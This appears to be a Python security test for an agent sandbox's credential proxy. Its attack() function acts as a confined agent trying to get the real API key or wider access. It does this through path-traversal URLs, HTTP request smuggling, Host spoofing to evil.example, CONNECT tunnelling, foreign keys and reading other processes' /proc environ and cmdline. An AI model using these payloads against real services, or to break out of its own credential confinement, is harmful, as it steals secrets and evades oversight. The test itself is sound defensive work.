"""Gets the LLM's key, or other access with it: by other paths, other hosts, other keys, or other processes' memory.

The agent has a placeholder for the key, which gives it completions from one provider and nothing else.
"""

import json
import os
import socket
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

LEVEL = "run"
KEY = "pk-Aa1Bb2Cc3Dd4Ee5Ff6Gg7Hh8Ii9Jj0"
PATHS = (
    "/v1/files", "/v1/batches", "/v1/../v1/files", "/v1/messages/../files", "/v1/messages%2f..%2ffiles", "//evil/v1/x",
    "/v1/fine_tuning/jobs", "/v1/organization/api_keys", "/v1/models/a/../../files", "/v1/messages/batches", "/",
)  # fmt: skip
SMUGGLED = b"0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n"


def prepare(stack, folder):
    from tests.http_server import Quiet, serving

    class Provider(Quiet):
        def respond(self):
            with (folder.parent / "asked.jsonl").open("a") as file:
                file.write(json.dumps([self.command, self.path, "foreign" in str(self.headers)]) + "\n")
            body = json.dumps({"error": f"no such key: {self.headers.get('x-api-key')}"}).encode()
            self.say(body, status=401)

    url = stack.enter_context(serving(Provider))
    names = ["LLM_KEY"]
    agent = {"driver": "d", "base_url": "http://127.0.0.1:9", "env": {"WHERE": "{base_url}"}}
    agent |= {"forward_env": names, "needs_one_of": names}
    return {"agent": agent, "environ": {"LLM_KEY": KEY}, "spec": {"base_url": url}}


def attack(scene):
    heard = [os.environ["LLM_KEY"].encode()]
    stand_in = os.environ["LLM_KEY"]
    headers = f"Host: evil.example\r\nX-Api-Key: {stand_in}\r\nX-Forwarded-Host: evil.example\r\n"
    for method in ("GET", "POST", "PUT", "DELETE"):
        for path in PATHS:
            heard.append(say(f"{method} {path} HTTP/1.1\r\n{headers}Content-Length: 2\r\n\r\n{{}}".encode()))
    two = (
        f"POST /v1/messages HTTP/1.1\r\n{headers}Content-Length: {len(SMUGGLED)}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    heard.append(say(two.encode() + SMUGGLED))
    heard.append(say(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
    heard.append(say(b"POST http://evil.example/v1/messages HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"))
    for more in ("", "X-Api-Key: sk-foreign\r\n", "Authorization: Bearer sk-foreign\r\n"):
        heard.append(say(f"POST /v1/messages HTTP/1.1\r\n{headers}{more}Content-Length: 2\r\n\r\n{{}}".encode()))
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            for name in ("environ", "cmdline"):
                with suppress(OSError):
                    heard.append((process / name).read_bytes())
    if not any(KEY.encode() in each for each in heard):
        raise PermissionError("none of it holds the key")


def say(request):
    place = urlsplit(os.environ["WHERE"])
    with suppress(OSError), socket.create_connection((place.hostname, place.port), timeout=5) as client:
        client.sendall(request)
        client.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: client.recv(4096), b""))
    return b""


def held(after):
    asked = after.run.root.parents[1] / "scripts" / "asked.jsonl"
    lines = [json.loads(line) for line in asked.read_text().splitlines()] if asked.exists() else []
    asked.unlink(missing_ok=True)
    if others := [line for line in lines if line != ["POST", "/v1/messages", False]]:
        return f"the provider was asked for {others[:3]}, with a foreign key if it says true"
    return "" if after.got is None else "it has the key"
